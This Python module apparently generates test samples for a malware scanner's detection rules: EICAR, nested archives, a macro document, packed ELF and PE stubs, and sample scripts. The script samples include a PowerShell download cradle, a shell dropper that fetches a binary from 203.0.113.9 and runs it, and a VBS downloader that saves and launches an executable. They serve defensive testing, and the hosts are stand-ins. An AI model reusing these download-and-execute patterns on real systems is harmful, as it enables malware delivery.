"""Test samples generated at run time: EICAR, archives, macro documents, packed binaries, scripts,
and a valid upstream wire record.

Nothing here is malware: EICAR is the industry test file, and the other samples only carry the
markers the bundled rules look for.
"""

from __future__ import annotations

import base64
import gzip
import io
import secrets
import struct
import tarfile
import zipfile

_EICAR_PARTS = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*")


def eicar() -> bytes:
    """The 68-byte EICAR test file, assembled so that no repository file holds it whole."""
    return "".join(_EICAR_PARTS).encode("ascii")


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def nested_zip(data: bytes, depth: int, name: str = "eicar.com") -> bytes:
    """``data`` wrapped in ``depth`` zips (depth 1 = one zip holding the file)."""
    for level in range(depth):
        data = zip_of({name: data})
        name = f"level{level}.zip"
    return data


def tar_of(members: dict[str, bytes], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]  # mode is one of w, w:gz, w:bz2, w:xz
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_of(data: bytes) -> bytes:
    return gzip.compress(data)


def ole_vba(marker: str = "AutoOpen") -> bytes:
    """A stand-in for vbaProject.bin: the OLE2 signature, then VBA-like text naming ``marker``."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    body = f'Attribute VB_Name = "ThisDocument"\r\nSub {marker}()\r\n  MsgBox "hi"\r\nEnd Sub\r\n'
    return header + body.encode("ascii") + bytes(512)


def docm(vba: bytes | None) -> bytes:
    members = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p></w:body></w:document>',
    }
    if vba is not None:
        members["word/vbaProject.bin"] = vba
    return zip_of(members)


def elf(extra: bytes = b"") -> bytes:
    """A minimal 64-bit ELF header followed by ``extra``."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + bytes(64) + extra


def elf_upx() -> bytes:
    return elf(
        b"UPX!"
        + bytes(32)
        + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n"
        + b"UPX!"
        + bytes(64)
    )


def pe(sections: tuple[bytes, ...]) -> bytes:
    """A minimal PE: DOS header pointing at a PE header with the named sections."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, 224, 0x102)
    optional = bytes(224)
    table = b"".join(name.ljust(8, b"\x00") + bytes(32) for name in sections)
    return bytes(dos) + coff + optional + table + bytes(512)


def _j(*parts: str) -> bytes:
    """Join parts at run time, so this source file never holds a whole sample a rule would match."""
    return "".join(parts).encode()


def powershell_encoded() -> bytes:
    payload = base64.b64encode("Write-Output 'hello from an encoded command'".encode("utf-16-le")).decode()
    return _j("cmd.exe /c power", "shell.exe -NoProfile -WindowStyle Hidden -e", f"nc {payload}\r\n")


def powershell_cradle() -> bytes:
    return _j(
        "$u='http://example.invalid/a.ps1'\n", "IEX (New-Object Net.", "WebClient).Download", "String($u)\n"
    )


def powershell_benign() -> bytes:
    return (
        b"# Download the monthly report to disk\n"
        b"$client = New-Object Net.WebClient\n"
        b"$client.DownloadFile('https://example.invalid/report.csv', \"$env:TEMP\\report.csv\")\n"
        b'Get-Content "$env:TEMP\\report.csv" | Select-Object -First 5\n'
        b"powershell.exe -ExecutionPolicy Bypass -File .\\build.ps1\n"
    )


def shell_dropper() -> bytes:
    tmp = "/" + "tmp/"
    return _j(
        "#!/bin/sh\n",
        f"cd {tmp} || exit 0\n",
        f"wget -q http://203.0.113.9/bins/x86 -O {tmp}.kx\n",
        f"chmod +x {tmp}.kx\n",
        f"{tmp}.kx scanner\n",
    )


def shell_benign() -> bytes:
    return (
        b"#!/bin/sh\n"
        b"# install the toolchain\n"
        b"curl -fsSL https://example.invalid/install.sh -o install.sh\n"
        b"chmod +x ./install.sh\n"
        b'./install.sh --prefix "$HOME/.local"\n'
        b"rm -rf /tmp/build-cache\n"
    )


def vbs_dropper() -> bytes:
    dot = "."
    return _j(
        f'Set x = CreateObject("MSXML2{dot}XMLHTTP")\r\nx.Open "GET", "http://example.invalid/p.exe", False\r\nx.Send\r\n',
        f'Set s = CreateObject("ADODB{dot}Stream")\r\ns.Type = 1 : s.Open : s.Write x.responseBody\r\n',
        f's{dot}SaveToFile "C:\\Users\\Public\\p.exe", 2\r\nCreateObject("WScript{dot}Shell").Run "C:\\Users\\Public\\p.exe"\r\n',
    )


def vbs_near_miss() -> bytes:
    dot = "."
    return _j(f'Set s = CreateObject("ADODB{dot}Stream")\r\ns{dot}SaveToFile "out.txt"\r\n')


def wire_record(**overrides: object) -> dict[str, object]:
    """A valid wire record (schema v1) with a fresh record_id and pseudonym, updated with ``overrides``."""
    base: dict[str, object] = {
        "schema": 1,
        "record_id": secrets.token_hex(16),
        "purpose": "protection",
        "pseudonym": secrets.token_hex(16),
        "time_bucket": "2026-11-29T15:00Z",
        "verdict": "malicious",
        "detections": [{"name": "EICAR_Test_File", "source": "yara"}],
        "kind": "executable",
        "size_bucket": 128,
        "sha256": secrets.token_hex(32),
        "engine_version": "endpoint-agent-engine/1 yara-x/1.0",
        "rules_version": "0123456789abcdef",
    }
    return {**base, **overrides}
